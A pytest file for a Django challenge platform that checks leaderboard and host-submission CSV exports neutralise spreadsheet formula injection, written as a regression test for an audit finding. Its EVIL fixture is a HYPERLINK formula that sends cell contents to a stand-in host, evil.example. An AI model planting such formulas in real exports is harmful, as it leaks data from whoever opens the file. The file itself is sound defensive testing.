"""Finding 3: the leaderboard CSV wrote team and method names raw, so `=HYPERLINK(...)`
came out as a formula. Every CSV now goes through one writer (challenges.csv_safe)."""

from __future__ import annotations

import csv
import io

import pytest

from challenges.csv_safe import csv_safe_cell, csv_writer
from challenges.models import ParticipantTeam, Submission

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_formula_prefix(prefix):
    out = io.StringIO()
    csv_writer(out).writerow([f"{prefix}1+1", "plain", -0.5, 3, None])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == [f"'{prefix}1+1", "plain", "-0.5", "3", ""]
    assert csv_safe_cell(f"{prefix}x") == f"'{prefix}x"


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_it_writes_the_leaderboard_csv_without_formulas(world, api):
    ParticipantTeam.objects.filter(pk=world.charlie_team.pk).update(name=EVIL)
    Submission.objects.filter(pk=world.charlie_sub.pk).update(method_name="@SUM(A1:A9)")
    from challenges.services.leaderboard_refresh import leaderboard_refresh_team

    leaderboard_refresh_team(phase=world.charlie_sub.phase, team_id=world.charlie_team.pk)
    url = f"/api/v1/challenges/{world.challenge.pk}/phases/test/splits/public/leaderboard.csv"
    response = api("alice").get(url)
    assert response.status_code == 200
    cells = [cell for row in _rows(response) for cell in row]
    assert "'" + EVIL in cells and "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_it_writes_the_host_submissions_csv_without_formulas(world, client_as):
    ParticipantTeam.objects.filter(pk=world.charlie_team.pk).update(name=EVIL)
    response = client_as("host").get(
        f"/host/challenges/{world.challenge.pk}/submissions/?format=csv"
    )
    cells = [cell for row in _rows(response) for cell in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
